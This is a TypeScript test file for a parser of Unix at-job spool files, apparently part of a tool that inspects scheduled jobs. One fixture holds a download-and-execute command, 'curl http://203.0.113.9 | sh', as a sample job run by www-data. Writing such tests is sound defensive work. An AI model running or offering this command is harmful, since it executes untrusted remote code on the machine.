import { describe, expect, it } from 'vitest'
import { parseAtJob } from './at-job.ts'

const head = `#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
HOME=/var/www; export HOME
PWD=/tmp; export PWD
cd /tmp || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
`

describe('an at job', () => {
  it('is what was typed, without the environment before it', () => {
    expect(parseAtJob('a0000101bb6b5e', `${head}curl http://203.0.113.9 | sh\n`)).toEqual({
      user: 'www-data',
      command: 'curl http://203.0.113.9 | sh',
      due: '2025-04-02T12:14:00.000Z',
    })
  })

  it('is taken out of the here-document of newer versions', () => {
    const body = "${SHELL:-/bin/sh} << 'marcinDELIMITER2bc4'\n/tmp/x\nmarcinDELIMITER2bc4\n"
    expect(parseAtJob('b0000201bb6b5e', head + body).command).toBe('/tmp/x')
  })

  it('is the whole file when the head is missing, and never due by a wrong name', () => {
    expect(parseAtJob('job', '/tmp/x\n')).toEqual({ user: null, command: '/tmp/x\n', due: null })
  })

  it('falls back to the number of its user', () => {
    expect(parseAtJob('x', '#!/bin/sh\n# atrun uid=7 gid=7\n').user).toBe('7')
  })
})
